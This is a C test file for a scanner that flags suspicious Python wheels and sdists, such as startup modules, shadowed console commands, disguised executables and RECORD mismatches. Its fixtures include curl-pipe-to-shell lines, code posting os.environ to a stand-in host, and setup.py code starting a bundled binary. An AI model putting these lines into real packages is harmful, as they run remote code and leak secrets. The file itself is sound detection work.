/* SPDX-License-Identifier: MIT */
/* Archive-level rules (wheel.*, bin.*) and the .dist-info parsers. The
 * artifacts are lists of inert members given to the scanner as the engine
 * gives them: every member noted (path, size, sha256, head bytes), the
 * members the rules want added. Executables are magic numbers followed by
 * zeros; hosts are 127.0.0.1 / 203.0.113.0/24 / .invalid. */
#include <stdio.h>
#include <stdlib.h>

#include "lg/hash.h"
#include "rules_tests.h"

struct tm {
	const char *path;
	const char *data; /* NULL: text is "x = 1\n" */
	size_t len;       /* 0: strlen(data) */
};

/* 64 bytes: ELF, PE (MZ with e_lfanew 0x80), Mach-O 64, zip local header,
 * PNG. */
static char elf[64] = "\x7f" "ELF\x02\x01\x01";
static char pe[64] = "MZ\x90";
static char macho[64] = "\xcf\xfa\xed\xfe\x07";
static char zip_head[64] = "PK\x03\x04\x14";
static char png[64] = "\x89PNG\r\n\x1a\n";

static void init_heads(void)
{
	pe[60] = (char)0x80;
}

#define BIN(name, what) {(name), (what), 64}

static void b64url(char *out, const unsigned char *p, size_t n)
{
	static const char a[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
	size_t k = 0;

	for (size_t i = 0; i < n; i += 3) {
		uint32_t v = (uint32_t)p[i] << 16 |
			     (i + 1 < n ? (uint32_t)p[i + 1] << 8 : 0) |
			     (i + 2 < n ? p[i + 2] : 0);

		out[k++] = a[v >> 18 & 63];
		out[k++] = a[v >> 12 & 63];
		if (i + 1 < n)
			out[k++] = a[v >> 6 & 63];
		if (i + 2 < n)
			out[k++] = a[v & 63];
	}
	out[k] = '\0';
}

static const char *data_of(const struct tm *m, size_t *len)
{
	const char *d = m->data ? m->data : "x = 1\n";

	*len = m->len ? m->len : strlen(d);
	return d;
}

/* RECORD text for members (the digest of each, as a wheel builder writes
 * it) plus a row for RECORD itself. */
static void make_record(struct lg_buf *out, const struct tm *v, size_t n,
			const char *record_path)
{
	for (size_t i = 0; i < n; i++) {
		char hex[65], b64[64];
		unsigned char raw[32];
		size_t len;
		const char *d = data_of(&v[i], &len);

		assert_int_equal(lg_sha256_hex(hex, d, len), 0);
		for (size_t k = 0; k < 32; k++)
			raw[k] = (unsigned char)(lg_hex_digit(hex[2 * k]) << 4 |
						 lg_hex_digit(hex[2 * k + 1]));
		b64url(b64, raw, 32);
		lg_buf_printf(out, "%s,sha256=%s,%zu\n", v[i].path, b64, len);
	}
	lg_buf_printf(out, "%s,,\n", record_path);
	assert_int_equal(out->err, 0);
}

static void feed(struct lg_rules_scan *s, const char *path, const char *d,
		 size_t len)
{
	struct lg_rules_member info = {path, len, NULL,
				       (const unsigned char *)d,
				       len < 64 ? len : 64};
	char hex[65];

	assert_int_equal(lg_sha256_hex(hex, d, len), 0);
	info.sha256 = hex;
	assert_int_equal(lg_rules_scan_note(s, &info), 0);
	if (lg_rules_wants_member(path))
		assert_int_equal(lg_rules_scan_add(s, path, d, len), 0);
}

/* Scans members as one artifact; record: append a correct RECORD to the
 * dist-info directory named (NULL: none). */
static void scan_members(struct lg_findings *f, const struct tm *v, size_t n,
			 const char *record)
{
	struct lg_rules_scan *s = NULL;
	struct lg_buf rec = LG_BUF_INIT(1u << 20);

	assert_int_equal(lg_rules_scan_new(&s, f), 0);
	for (size_t i = 0; i < n; i++) {
		size_t len;
		const char *d = data_of(&v[i], &len);

		feed(s, v[i].path, d, len);
	}
	if (record) {
		make_record(&rec, v, n, record);
		feed(s, record, rec.ptr, rec.len);
	}
	assert_int_equal(lg_rules_scan_finish(s), 0);
	lg_rules_scan_free(s);
	lg_buf_dispose(&rec);
}

#define SCAN(f, v, rec) scan_members((f), (v), LG_ARRAY_SIZE(v), (rec))

#define PURE "Wheel-Version: 1.0\nGenerator: bdist_wheel\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
#define PLAT "Wheel-Version: 1.0\nRoot-Is-Purelib: false\nTag: cp311-cp311-linux_x86_64\n"

static void expect(const struct lg_finding *x, enum lg_severity sev,
		   const char *path)
{
	if (x->severity != sev || (path && strcmp(x->path, path)))
		fail_msg("%s %s %s", lg_severity_name(x->severity), x->path,
			 x->message);
}

/* ---- wheel.startup-module ------------------------------------------------ */

static void test_rules_wheel__startup_module(void **state)
{
	struct lg_findings f = LG_FINDINGS_INIT;
	const struct tm root[] = {
		{"demo/__init__.py", NULL, 0},
		{"sitecustomize.py", "import demo\n", 0},
		{"demo-1.0.dist-info/WHEEL", PURE, 0},
	};
	const struct tm data[] = {
		{"demo-1.0.data/purelib/usercustomize.py", "x = 2\n", 0},
		{"demo-1.0.dist-info/WHEEL", PURE, 0},
	};
	const struct tm hot[] = {
		{"sitecustomize.py",
		 "import os\nos.system('curl -s http://203.0.113.5/x | sh')\n", 0},
		{"demo-1.0.dist-info/WHEEL", PURE, 0},
	};
	const struct tm nested[] = {
		{"demo/sitecustomize.py", NULL, 0},
		{"demo-1.0.dist-info/WHEEL", PURE, 0},
	};
	const struct tm sdist[] = {
		{"demo-1.0/setup.py", "from setuptools import setup\nsetup(py_modules=['sitecustomize'])\n", 0},
		{"demo-1.0/sitecustomize.py", NULL, 0},
	};

	(void)state;
	SCAN(&f, root, "demo-1.0.dist-info/RECORD");
	expect(t_one(&f, LG_RULE_STARTUP_MODULE), LG_SEV_HIGH,
	       "sitecustomize.py");
	assert_int_equal(f.n, 1);
	lg_findings_dispose(&f);
	SCAN(&f, data, "demo-1.0.dist-info/RECORD");
	expect(t_one(&f, LG_RULE_STARTUP_MODULE), LG_SEV_HIGH, NULL);
	lg_findings_dispose(&f);
	/* Its code runs in startup context (raised one level). */
	SCAN(&f, hot, "demo-1.0.dist-info/RECORD");
	expect(t_one(&f, LG_RULE_STARTUP_MODULE), LG_SEV_HIGH, NULL);
	assert_non_null(strstr(t_one(&f, LG_RULE_LOLBIN)->message,
			       "startup context"));
	assert_int_equal(t_one(&f, LG_RULE_LOLBIN)->severity,
			 LG_SEV_CRITICAL);
	lg_findings_dispose(&f);
	/* Near miss: inside a package it is an ordinary module. */
	SCAN(&f, nested, "demo-1.0.dist-info/RECORD");
	t_none(&f);
	lg_findings_dispose(&f);
	SCAN(&f, sdist, NULL);
	expect(t_one(&f, LG_RULE_STARTUP_MODULE), LG_SEV_MEDIUM, NULL);
	lg_findings_dispose(&f);
}

/* ---- wheel.console-script-shadow ----------------------------------------- */

static void test_rules_wheel__console_shadow(void **state)
{
	struct lg_findings f = LG_FINDINGS_INIT;
	const struct tm hit[] = {
		{"cloudhelper/__init__.py", NULL, 0},
		{"cloudhelper/cli.py", "def main():\n    pass\n", 0},
		{"cloudhelper-1.0.dist-info/WHEEL", PURE, 0},
		{"cloudhelper-1.0.dist-info/entry_points.txt",
		 "[console_scripts]\naws = cloudhelper.cli:main\n"
		 "cloudhelper = cloudhelper.cli:main\n", 0},
	};
	const struct tm hot[] = {
		{"gitx/__init__.py", NULL, 0},
		{"gitx/cli.py",
		 "import os, json, urllib.request as r\n"
		 "def main():\n"
		 "    blob = json.dumps(dict(os.environ)).encode()\n"
		 "    r.urlopen('http://203.0.113.9/x', data=blob)\n", 0},
		{"gitx-1.0.dist-info/WHEEL", PURE, 0},
		{"gitx-1.0.dist-info/entry_points.txt",
		 "[console_scripts]\ngit = gitx.cli:main\n", 0},
	};
	const struct tm owner[] = {
		{"awscli/__init__.py", NULL, 0},
		{"awscli-1.27.0.dist-info/WHEEL", PURE, 0},
		{"awscli-1.27.0.dist-info/entry_points.txt",
		 "[console_scripts]\naws = awscli.clidriver:main\n", 0},
		{"awscli-1.27.0.data/scripts/aws", "#!python\nimport awscli\n", 0},
	};
	const struct tm pip[] = {
		{"pip/__init__.py", NULL, 0},
		{"pip-23.0.1.dist-info/WHEEL", PURE, 0},
		{"pip-23.0.1.dist-info/entry_points.txt",
		 "[console_scripts]\npip = pip._internal.cli.main:main\n"
		 "pip3 = pip._internal.cli.main:main\n"
		 "pip3.11 = pip._internal.cli.main:main\n", 0},
	};
	const struct tm script[] = {
		{"evil-1.0.dist-info/WHEEL", PURE, 0},
		{"evil-1.0.data/scripts/sudo", "#!python\nprint(1)\n", 0},
	};

	(void)state;
	SCAN(&f, hit, "cloudhelper-1.0.dist-info/RECORD");
	expect(t_one(&f, LG_RULE_CONSOLE_SHADOW), LG_SEV_MEDIUM,
	       "cloudhelper-1.0.dist-info/entry_points.txt");
	assert_int_equal(t_one(&f, LG_RULE_CONSOLE_SHADOW)->line, 2);
	lg_findings_dispose(&f);
	SCAN(&f, hot, "gitx-1.0.dist-info/RECORD");
	expect(t_one(&f, LG_RULE_CONSOLE_SHADOW), LG_SEV_HIGH, NULL);
	lg_findings_dispose(&f);
	/* Near misses: the real owners. */
	SCAN(&f, owner, "awscli-1.27.0.dist-info/RECORD");
	assert_int_equal(t_count(&f, LG_RULE_CONSOLE_SHADOW), 0);
	lg_findings_dispose(&f);
	SCAN(&f, pip, "pip-23.0.1.dist-info/RECORD");
	t_none(&f);
	lg_findings_dispose(&f);
	SCAN(&f, script, "evil-1.0.dist-info/RECORD");
	expect(t_one(&f, LG_RULE_CONSOLE_SHADOW), LG_SEV_MEDIUM,
	       "evil-1.0.data/scripts/sudo");
	lg_findings_dispose(&f);
}

/* ---- wheel.native-in-purelib --------------------------------------------- */

static void test_rules_wheel__native_in_purelib(void **state)
{
	struct lg_findings f = LG_FINDINGS_INIT;
	const struct tm hit[] = {
		{"helper/__init__.py", NULL, 0},
		BIN("helper/bin/runner", elf),
		{"helper-1.0.dist-info/WHEEL", PURE, 0},
	};
	const struct tm platlib[] = {
		{"helper/__init__.py", NULL, 0},
		BIN("helper/_speedups.cpython-311-x86_64-linux-gnu.so", elf),
		{"helper-1.0.dist-info/WHEEL", PLAT, 0},
	};
	/* pip's pure wheel with distlib's launchers (pip 23.x shape). */
	const struct tm pip[] = {
		{"pip/__init__.py", NULL, 0},
		BIN("pip/_vendor/distlib/t32.exe", pe),
		BIN("pip/_vendor/distlib/t64-arm.exe", pe),
		BIN("pip/_vendor/distlib/t64.exe", pe),
		BIN("pip/_vendor/distlib/w32.exe", pe),
		BIN("pip/_vendor/distlib/w64-arm.exe", pe),
		BIN("pip/_vendor/distlib/w64.exe", pe),
		{"pip-23.0.1.dist-info/WHEEL", PURE, 0},
	};
	/* setuptools' pure wheel with its script launchers. */
	const struct tm setuptools[] = {
		{"setuptools/__init__.py", NULL, 0},
		BIN("setuptools/cli-32.exe", pe),
		BIN("setuptools/cli-64.exe", pe),
		BIN("setuptools/cli-arm64.exe", pe),
		BIN("setuptools/cli.exe", pe),
		BIN("setuptools/gui-32.exe", pe),
		BIN("setuptools/gui-64.exe", pe),
		BIN("setuptools/gui-arm64.exe", pe),
		BIN("setuptools/gui.exe", pe),
		{"setuptools-68.0.0.dist-info/WHEEL", PURE, 0},
	};
	/* The same launcher path in another project is not pip's. */
	const struct tm impostor[] = {
		BIN("pip/_vendor/distlib/t64.exe", pe),
		BIN("pip/_vendor/distlib/stage2.exe", macho),
		{"pipx_helper-1.0.dist-info/WHEEL", PURE, 0},
	};

	(void)state;
	SCAN(&f, hit, "helper-1.0.dist-info/RECORD");
	expect(t_one(&f, LG_RULE_NATIVE_PURELIB), LG_SEV_MEDIUM,
	       "helper/bin/runner");
	assert_int_equal(f.n, 1);
	lg_findings_dispose(&f);
	SCAN(&f, platlib, "helper-1.0.dist-info/RECORD");
	t_none(&f);
	lg_findings_dispose(&f);
	SCAN(&f, pip, "pip-23.0.1.dist-info/RECORD");
	t_none(&f);
	lg_findings_dispose(&f);
	SCAN(&f, setuptools, "setuptools-68.0.0.dist-info/RECORD");
	t_none(&f);
	lg_findings_dispose(&f);
	SCAN(&f, impostor, "pipx_helper-1.0.dist-info/RECORD");
	assert_int_equal(t_count(&f, LG_RULE_NATIVE_PURELIB), 2);
	lg_findings_dispose(&f);
}

/* ---- wheel.record-mismatch ----------------------------------------------- */

static void record_case(const char *record, const char *rule_path,
			enum lg_severity sev, size_t count)
{
	struct lg_findings f = LG_FINDINGS_INIT;
	struct lg_rules_scan *s = NULL;
	const struct tm v[] = {
		{"demo/__init__.py", "import os\n", 0},
		{"demo/data.json", "{}\n", 0},
		{"demo-1.0.dist-info/WHEEL", PURE, 0},
	};

	assert_int_equal(lg_rules_scan_new(&s, &f), 0);
	for (size_t i = 0; i < LG_ARRAY_SIZE(v); i++)
		feed(s, v[i].path, v[i].data, strlen(v[i].data));
	if (record)
		feed(s, "demo-1.0.dist-info/RECORD", record, strlen(record));
	assert_int_equal(lg_rules_scan_finish(s), 0);
	lg_rules_scan_free(s);
	if (!count)
		t_none(&f);
	else {
		assert_int_equal(t_count(&f, LG_RULE_RECORD_MISMATCH), count);
		if (count == 1)
			expect(t_one(&f, LG_RULE_RECORD_MISMATCH), sev,
			       rule_path);
	}
	lg_findings_dispose(&f);
}

/* sha256 of "import os\n", "{}\n" and PURE, urlsafe base64 without '='. */
static char rows[3][160];

static void fill_rows(void)
{
	const char *d[] = {"import os\n", "{}\n", PURE};
	const char *p[] = {"demo/__init__.py", "demo/data.json",
			   "demo-1.0.dist-info/WHEEL"};

	for (size_t i = 0; i < 3; i++) {
		char hex[65], b64[64];
		unsigned char raw[32];

		assert_int_equal(lg_sha256_hex(hex, d[i], strlen(d[i])), 0);
		for (size_t k = 0; k < 32; k++)
			raw[k] = (unsigned char)(lg_hex_digit(hex[2 * k]) << 4 |
						 lg_hex_digit(hex[2 * k + 1]));
		b64url(b64, raw, 32);
		snprintf(rows[i], sizeof(rows[i]), "%s,sha256=%s,%zu\n", p[i],
			 b64, strlen(d[i]));
	}
}

static void test_rules_wheel__record(void **state)
{
	char rec[1024];

	(void)state;
	fill_rows();
	/* Clean, with a quoted path and CRLF line ends. */
	snprintf(rec, sizeof(rec), "\"demo/__init__.py\"%s%s%sdemo-1.0.dist-info/RECORD,,\r\n",
		 strchr(rows[0], ','), rows[1], rows[2]);
	record_case(rec, NULL, 0, 0);
	/* Missing RECORD. */
	record_case(NULL, "demo-1.0.dist-info/", LG_SEV_MEDIUM, 1);
	/* The package's code is not listed: high. */
	snprintf(rec, sizeof(rec), "%s%sdemo-1.0.dist-info/RECORD,,\n",
		 rows[1], rows[2]);
	record_case(rec, "demo/__init__.py", LG_SEV_HIGH, 1);
	/* A data file whose digest differs (same size): medium. */
	snprintf(rec, sizeof(rec), "%sdemo/data.json,sha256=%s,3\n%sdemo-1.0.dist-info/RECORD,,\n",
		 rows[0], "47DEQpj8HBSa-_TImW-5JCeuQeRkm5NMpJWZG3hSuFU", rows[2]);
	record_case(rec, "demo/data.json", LG_SEV_MEDIUM, 1);
	/* A row for a file the wheel lacks. */
	snprintf(rec, sizeof(rec), "%s%s%sdemo/gone.py,,\ndemo-1.0.dist-info/RECORD,,\n",
		 rows[0], rows[1], rows[2]);
	record_case(rec, "demo/gone.py", LG_SEV_MEDIUM, 1);
	/* Near miss: '=' padding is a quirk (low), not a mismatch. */
	snprintf(rec, sizeof(rec), "%.*s=,%zu\n%s%sdemo-1.0.dist-info/RECORD,,\n",
		 (int)(strrchr(rows[0], ',') - rows[0]), rows[0],
		 strlen("import os\n"), rows[1], rows[2]);
	record_case(rec, "demo-1.0.dist-info/RECORD", LG_SEV_LOW, 1);
	/* Not CSV. */
	record_case("\"demo/__init__.py,,\n", "demo-1.0.dist-info/RECORD",
		    LG_SEV_MEDIUM, 4);
}

/* ---- wheel.data-spread --------------------------------------------------- */

static void test_rules_wheel__data_spread(void **state)
{
	struct lg_findings f = LG_FINDINGS_INIT;
	const struct tm hit[] = {
		{"tool-1.0.dist-info/WHEEL", PURE, 0},
		{"tool-1.0.data/scripts/tool-update",
		 "#!/bin/sh\ncurl -s http://203.0.113.7/x.sh | sh\n", 0},
		BIN("tool-1.0.data/scripts/toold", elf),
		{"tool-1.0.data/data/etc/profile.d/tool.sh",
		 "export TOOL=1\n", 0},
		{"tool-1.0.data/data/lib/python3.11/site-packages/zz.pth",
		 "/opt/tool\n", 0},
	};
	const struct tm miss[] = {
		{"nbext-1.0.dist-info/WHEEL", PURE, 0},
		{"nbext-1.0.data/scripts/nbext", "#!python\nimport nbext\n", 0},
		{"nbext-1.0.data/scripts/nbext_bash_completer",
		 "# bash completion\ncomplete -C nbext nbext\n", 0},
		{"nbext-1.0.data/data/share/jupyter/nbextensions/nbext/main.js",
		 "define([], function() {});\n", 0},
		{"nbext-1.0.data/data/etc/jupyter/nbconfig/notebook.d/nbext.json",
		 "{}\n", 0},
		{"nbext-1.0.data/headers/nbext.h", "int f(void);\n", 0},
	};

	(void)state;
	SCAN(&f, hit, "tool-1.0.dist-info/RECORD");
	assert_int_equal(t_count(&f, LG_RULE_DATA_SPREAD), 4);
	for (size_t i = 0; i < f.n; i++)
		if (strstr(f.v[i].path, "tool-update"))
			expect(&f.v[i], LG_SEV_HIGH, NULL);
		else if (!strcmp(f.v[i].rule, LG_RULE_DATA_SPREAD))
			expect(&f.v[i], LG_SEV_MEDIUM, NULL);
	lg_findings_dispose(&f);
	SCAN(&f, miss, "nbext-1.0.dist-info/RECORD");
	t_none(&f);
	lg_findings_dispose(&f);
}

/* ---- bin.disguised-executable -------------------------------------------- */

static void test_rules_wheel__disguised(void **state)
{
	struct lg_findings f = LG_FINDINGS_INIT;
	const struct tm hit[] = {
		{"demo-1.0/setup.py", "from setuptools import setup\nsetup()\n", 0},
		BIN("demo-1.0/demo/assets/logo.png", pe),
		BIN("demo-1.0/demo/update", pe),
		BIN("demo-1.0/demo/readme.txt", macho),
		BIN("demo-1.0/demo/icon.jpg", zip_head),
	};
	const struct tm tests_dir[] = {
		{"demo-1.0/setup.py", "from setuptools import setup\nsetup()\n", 0},
		BIN("demo-1.0/tests/corpus/bad_pe.dat", pe),
	};
	const struct tm referenced[] = {
		{"demo-1.0/setup.py", "from setuptools import setup\nsetup()\n", 0},
		{"demo-1.0/demo/__init__.py",
		 "import os\nP = os.path.join('tests', 'bad_pe.dat')\n", 0},
		BIN("demo-1.0/tests/bad_pe.dat", pe),
	};
	const struct tm miss[] = {
		{"demo-1.0/setup.py", "from setuptools import setup\nsetup()\n", 0},
		BIN("demo-1.0/demo/assets/logo.png", png),
		BIN("demo-1.0/demo/bundle.zip", zip_head),
		BIN("demo-1.0/demo/bin/runner", elf),
	};

	(void)state;
	init_heads();
	SCAN(&f, hit, NULL);
	assert_int_equal(t_count(&f, LG_RULE_DISGUISED_EXE), 4);
	for (size_t i = 0; i < f.n; i++)
		if (!strcmp(f.v[i].rule, LG_RULE_DISGUISED_EXE))
			expect(&f.v[i], LG_SEV_HIGH, NULL);
	lg_findings_dispose(&f);
	SCAN(&f, tests_dir, NULL);
	expect(t_one(&f, LG_RULE_DISGUISED_EXE), LG_SEV_LOW, NULL);
	lg_findings_dispose(&f);
	SCAN(&f, referenced, NULL);
	expect(t_one(&f, LG_RULE_DISGUISED_EXE), LG_SEV_HIGH, NULL);
	lg_findings_dispose(&f);
	SCAN(&f, miss, NULL);
	assert_int_equal(t_count(&f, LG_RULE_DISGUISED_EXE), 0);
	lg_findings_dispose(&f);
}

/* C14: a disguised executable that the package's code names and chmods,
 * loads with ctypes or starts is critical; named without any of those it
 * stays high (the `referenced` case above), and a short name is no
 * reference. */
static void test_rules_wheel__disguised_run(void **state)
{
	struct lg_findings f = LG_FINDINGS_INIT;
	const struct tm chmod_run[] = {
		{"demo-1.0/setup.py", "from setuptools import setup\nsetup()\n", 0},
		{"demo-1.0/demo/__init__.py",
		 "import os, subprocess\n"
		 "p = os.path.join(os.path.dirname(__file__), 'assets', 'logo.png')\n"
		 "os.chmod(p, 0o755)\nsubprocess.Popen([p])\n", 0},
		BIN("demo-1.0/demo/assets/logo.png", pe),
	};
	const struct tm ctypes_load[] = {
		{"demo-1.0/setup.py", "from setuptools import setup\nsetup()\n", 0},
		{"demo-1.0/demo/__init__.py",
		 "import ctypes\nctypes.CDLL('demo/readme.txt')\n", 0},
		BIN("demo-1.0/demo/readme.txt", elf),
	};
	const struct tm named_only[] = {
		{"demo-1.0/setup.py", "from setuptools import setup\nsetup()\n", 0},
		{"demo-1.0/demo/__init__.py",
		 "ICON = 'assets/logo.png'\nprint(ICON)\n", 0},
		BIN("demo-1.0/demo/assets/logo.png", pe),
	};

	(void)state;
	init_heads();
	SCAN(&f, chmod_run, NULL);
	expect(t_one(&f, LG_RULE_DISGUISED_EXE), LG_SEV_CRITICAL, NULL);
	assert_non_null(strstr(t_one(&f, LG_RULE_DISGUISED_EXE)->message, "(C14)"));
	lg_findings_dispose(&f);
	SCAN(&f, ctypes_load, NULL);
	expect(t_one(&f, LG_RULE_DISGUISED_EXE), LG_SEV_CRITICAL, NULL);
	lg_findings_dispose(&f);
	SCAN(&f, named_only, NULL);
	expect(t_one(&f, LG_RULE_DISGUISED_EXE), LG_SEV_HIGH, NULL);
	lg_findings_dispose(&f);
}

/* ---- bin.native-in-sdist ------------------------------------------------- */

static void test_rules_wheel__native_in_sdist(void **state)
{
	struct lg_findings f = LG_FINDINGS_INIT;
	const struct tm vendored[] = {
		{"demo-1.0/setup.py", "from setuptools import setup\nsetup()\n", 0},
		BIN("demo-1.0/vendor/bin/helper", elf),
	};
	const struct tm dropper[] = {
		{"demo-1.0/setup.py",
		 "import subprocess, os\nfrom setuptools import setup\n"
		 "here = os.path.dirname(__file__)\n"
		 "subprocess.Popen([os.path.join(here, 'bin', 'helper.exe')])\n"
		 "setup()\n", 0},
		BIN("demo-1.0/bin/helper.exe", pe),
	};
	/* Near miss: setup.py names it but starts no process. */
	const struct tm named[] = {
		{"demo-1.0/setup.py",
		 "from setuptools import setup\n"
		 "setup(data_files=[('bin', ['bin/helper.exe'])])\n", 0},
		BIN("demo-1.0/bin/helper.exe", pe),
	};
	/* Near miss: a wheel is not an sdist. */
	const struct tm wheel[] = {
		BIN("demo/_ext.so", elf),
		{"demo-1.0.dist-info/WHEEL", PLAT, 0},
	};

	(void)state;
	init_heads();
	SCAN(&f, vendored, NULL);
	expect(t_one(&f, LG_RULE_NATIVE_SDIST), LG_SEV_MEDIUM, NULL);
	lg_findings_dispose(&f);
	SCAN(&f, dropper, NULL);
	expect(t_one(&f, LG_RULE_NATIVE_SDIST), LG_SEV_HIGH, NULL);
	lg_findings_dispose(&f);
	SCAN(&f, named, NULL);
	expect(t_one(&f, LG_RULE_NATIVE_SDIST), LG_SEV_MEDIUM, NULL);
	lg_findings_dispose(&f);
	SCAN(&f, wheel, "demo-1.0.dist-info/RECORD");
	t_none(&f);
	lg_findings_dispose(&f);
}

/* ---- parsers --------------------------------------------------------------- */

struct rows_seen {
	char paths[4][64];
	char sizes[4][16];
	size_t n;
};

static int on_row(const struct lg_record_row *row, void *payload)
{
	struct rows_seen *r = payload;

	if (r->n < 4) {
		snprintf(r->paths[r->n], sizeof(r->paths[0]), "%s", row->path);
		snprintf(r->sizes[r->n], sizeof(r->sizes[0]), "%s", row->size);
	}
	r->n++;
	return 0;
}

static void test_rules_wheel__record_parser(void **state)
{
	struct rows_seen r = {0};
	static const char text[] =
		"a.py,sha256=AAAA,1\n"
		"\"b,\"\"q\"\".py\",,\r\n"
		"\n"
		"c.py,sha256=BB,\n";
	unsigned char d[8];
	bool padded;
	char *big;

	(void)state;
	assert_int_equal(lg_record_parse(text, strlen(text), on_row, &r), 0);
	assert_int_equal(r.n, 3);
	assert_string_equal(r.paths[1], "b,\"q\".py");
	assert_string_equal(r.sizes[0], "1");
	assert_string_equal(r.sizes[2], "");
	assert_int_equal(lg_record_parse("a,b,c,d\n", 8, NULL, NULL),
			 LG_EINVALID);
	assert_int_equal(lg_record_parse("\"a,b\n", 5, NULL, NULL),
			 LG_EINVALID);
	assert_int_equal(lg_record_digest(d, sizeof(d), &padded, "AQID"), 3);
	assert_false(padded);
	assert_int_equal(lg_record_digest(d, sizeof(d), &padded, "AQ=="), 1);
	assert_true(padded);
	assert_int_equal(lg_record_digest(d, sizeof(d), &padded, "A!"), -1);
	/* A field past the cap is an error, not a cut. */
	big = calloc(1, LG_MAX_DISTINFO_FIELD + 8);
	assert_non_null(big);
	memset(big, 'a', LG_MAX_DISTINFO_FIELD + 4);
	assert_int_equal(lg_record_parse(big, strlen(big), NULL, NULL),
			 LG_ETOOBIG);
	assert_int_equal(lg_distinfo_parse(big, strlen(big), '=', NULL, NULL),
			 LG_ETOOBIG);
	free(big);
}

struct ep_seen {
	char last[3][64];
	size_t n;
};

static int on_ep(const char *section, const char *key, const char *value,
		 size_t line, void *payload)
{
	struct ep_seen *e = payload;

	(void)line;
	snprintf(e->last[0], sizeof(e->last[0]), "%s", section);
	snprintf(e->last[1], sizeof(e->last[1]), "%s", key);
	snprintf(e->last[2], sizeof(e->last[2]), "%s", value);
	e->n++;
	return 0;
}

static void test_rules_wheel__ini_parser(void **state)
{
	struct ep_seen e = {0};
	static const char text[] = "# comment\n[ console_scripts ]\r\n"
				   "  tool  =  tool.cli:main [extra]\n"
				   "no separator here\n; other\n";

	(void)state;
	assert_int_equal(lg_distinfo_parse(text, strlen(text), '=', on_ep, &e),
			 0);
	assert_int_equal(e.n, 1);
	assert_string_equal(e.last[0], "console_scripts");
	assert_string_equal(e.last[1], "tool");
	assert_string_equal(e.last[2], "tool.cli:main [extra]");
}

/* Every allocation of the archive rules fails in turn: only LG_ENOMEM
 * comes back, nothing leaks, and the first success has every finding. */
static int oom_once(struct lg_findings *f, const struct tm *v, size_t n)
{
	struct lg_rules_scan *s = NULL;
	int error;

	if ((error = lg_rules_scan_new(&s, f)) < 0)
		return error;
	for (size_t i = 0; i < n && !error; i++) {
		size_t len;
		const char *d = data_of(&v[i], &len);
		struct lg_rules_member m = {v[i].path, len, NULL,
					    (const unsigned char *)d,
					    len < 64 ? len : 64};

		if ((error = lg_rules_scan_note(s, &m)) == 0 &&
		    lg_rules_wants_member(v[i].path))
			error = lg_rules_scan_add(s, v[i].path, d, len);
	}
	if (!error)
		error = lg_rules_scan_finish(s);
	lg_rules_scan_free(s);
	return error;
}

static void test_rules_wheel__oom_sweep(void **state)
{
	struct lg_findings f = LG_FINDINGS_INIT;
	const struct tm wheel[] = {
		{"evil/__init__.py", NULL, 0},
		BIN("evil/bin/x", elf),
		{"sitecustomize.py", NULL, 0},
		{"evil-1.0.data/scripts/up", "#!/bin/sh\ncurl -s http://203.0.113.7/x | sh\n", 0},
		{"evil-1.0.dist-info/WHEEL", PURE, 0},
		{"evil-1.0.dist-info/entry_points.txt", "[console_scripts]\nsudo = evil:main\n", 0},
		{"evil-1.0.dist-info/RECORD", "evil/__init__.py,sha256=AAAA=,3\ngone.py,,\n", 0},
	};
	const struct tm sdist[] = {
		{"demo-1.0/setup.py", "import os\nos.startfile('bin/helper.exe')\n", 0},
		BIN("demo-1.0/bin/helper.exe", pe),
	};
	int error = LG_ENOMEM;
	size_t want;

	(void)state;
	init_heads();
	for (long n = 0; error == LG_ENOMEM && n < 20000; n++) {
		lg_findings_dispose(&f);
		lg_alloc_fail_after(n);
		error = oom_once(&f, wheel, LG_ARRAY_SIZE(wheel));
		lg_alloc_fail_after(-1);
	}
	assert_int_equal(error, 0);
	want = f.n;
	assert_true(want >= 7);
	lg_findings_dispose(&f);
	assert_int_equal(oom_once(&f, wheel, LG_ARRAY_SIZE(wheel)), 0);
	assert_int_equal(f.n, want);
	lg_findings_dispose(&f);
	error = LG_ENOMEM;
	for (long n = 0; error == LG_ENOMEM && n < 20000; n++) {
		lg_findings_dispose(&f);
		lg_alloc_fail_after(n);
		error = oom_once(&f, sdist, LG_ARRAY_SIZE(sdist));
		lg_alloc_fail_after(-1);
	}
	assert_int_equal(error, 0);
	expect(t_one(&f, LG_RULE_NATIVE_SDIST), LG_SEV_HIGH, NULL);
	lg_findings_dispose(&f);
}

/* C15: a wheel module with a finding that the sdist of the release does
 * not have is divergence; the same module in the sdist (any layout), a
 * finding below medium, tests and .dist-info are not. */
static void test_rules_wheel__artifact_divergence(void **state)
{
	static const char *const sdist[] = {
		"demo-1.0/setup.py", "demo-1.0/src/demo/__init__.py",
		"demo-1.0/src/demo/net.py",
	};
	const char *wheel = "demo-1.0-py3-none-any.whl";
	struct lg_findings f = LG_FINDINGS_INIT;

	(void)state;
	/* Findings as the scan of the wheel left them. */
	assert_int_equal(lg_findings_add(&f, LG_RULE_SETUP_NETWORK, LG_SEV_MEDIUM,
					 "demo/_t.py", 3, "x"), 0);
	assert_int_equal(lg_findings_add(&f, LG_RULE_SETUP_NETWORK, LG_SEV_HIGH,
					 "demo/_t.py", 9, "y"), 0);
	assert_int_equal(lg_findings_add(&f, LG_RULE_SETUP_NETWORK, LG_SEV_MEDIUM,
					 "demo/net.py", 3, "in the sdist too"), 0);
	assert_int_equal(lg_findings_add(&f, LG_RULE_SETUP_NETWORK, LG_SEV_LOW,
					 "demo/low.py", 3, "below medium"), 0);
	assert_int_equal(lg_findings_add(&f, LG_RULE_SETUP_NETWORK, LG_SEV_HIGH,
					 "demo/tests/t.py", 3, "a test"), 0);
	assert_int_equal(lg_findings_add(&f, LG_RULE_RECORD_MISMATCH, LG_SEV_HIGH,
					 "demo-1.0.dist-info/RECORD", 0, "meta"), 0);
	assert_int_equal(lg_findings_add(&f, LG_RULE_PTH_EXEC_LINE, LG_SEV_HIGH,
					 "demo-1.0.data/purelib/zz.pth", 1, "pth"), 0);
	for (size_t i = 0; i < f.n; i++)
		f.v[i].file = lg__strdup(wheel);
	assert_int_equal(lg_rules_divergence(&f, 0, wheel, sdist,
					     LG_ARRAY_SIZE(sdist)), 0);
	/* One finding per member: _t.py (twice flagged, once reported) and
	 * the .pth planted through .data/purelib. */
	assert_int_equal(f.n, 9);
	assert_string_equal(f.v[7].rule, LG_RULE_ARTIFACT_DIVERGENCE);
	assert_int_equal(f.v[7].severity, LG_SEV_HIGH);
